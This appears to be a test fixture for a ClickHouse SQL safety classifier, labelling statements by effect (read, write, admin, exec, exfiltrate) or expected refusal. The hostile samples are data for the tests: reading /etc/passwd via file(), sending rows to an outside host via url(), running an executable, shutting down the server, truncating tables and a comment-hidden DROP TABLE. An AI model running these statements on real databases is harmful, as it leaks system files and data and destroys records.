-- Statements of ClickHouse and what they do.

-- effects: Read
SELECT count(), uniq(user_id) FROM events WHERE date = today() SETTINGS max_threads = 1

-- effects: Read
SELECT toStartOfMonth(ts) AS m, quantile(0.9)(ms) FROM events GROUP BY m FORMAT JSON

-- effects: Read
SELECT * FROM numbers(10)

-- effects: Write
INSERT INTO events (id) VALUES (1)

-- effects: Schema
CREATE TABLE t (id UInt64) ENGINE = MergeTree ORDER BY id

-- effects: Exfiltrate Schema
CREATE TABLE t (id UInt64) ENGINE = URL('http://example.com', 'CSV')

-- effects: WriteAll
ALTER TABLE events DELETE WHERE 1 = 1

-- effects: Write
ALTER TABLE db.events DELETE WHERE id = 7

-- effects: Write
ALTER TABLE `events` UPDATE name = 'x', ok = 0 WHERE id IN (1, 2)

-- effects: WriteAll
alter table events update name = 'x' where id = id

-- effects: Exfiltrate Write
ALTER TABLE events DELETE WHERE id IN (SELECT id FROM url('http://example.com', 'CSV', 'id Int8'))

-- effects: Admin Write
ALTER TABLE system.users DELETE WHERE name = 'x'

-- effects: Exec Write
ALTER TABLE events UPDATE name = myFunction(1) WHERE id = 7

-- refused: Expected
ALTER TABLE events DELETE WHERE id = 7, UPDATE name = 'x' WHERE 1

-- refused: Expected
ALTER TABLE events FETCH PARTITION 1 FROM '/path'

-- effects: WriteAll
TRUNCATE TABLE events

-- effects: Admin
SYSTEM SHUTDOWN

-- effects: Admin
OPTIMIZE TABLE events FINAL

-- effects: Exfiltrate
SELECT * FROM url('http://example.com/x', 'CSV', 'a String')

-- effects: Exfiltrate
SELECT * FROM file('/etc/passwd', 'LineAsString')

-- effects: Exfiltrate
SELECT * FROM s3('https://bucket/x.csv')

-- effects: Exfiltrate
SELECT * FROM remote('example.com', 'db.t')

-- effects: Exfiltrate Write
INSERT INTO FUNCTION url('http://example.com', 'CSV', 'a String') SELECT 'x'

-- effects: Exec
SELECT * FROM executable('script.py', 'CSV', 'a String')

-- effects: Exec
SELECT myFunction(1)

-- refused: # begins a comment
SELECT 1 #! DROP TABLE events

-- refused: stands outside of quotes
SELECT ‘a’
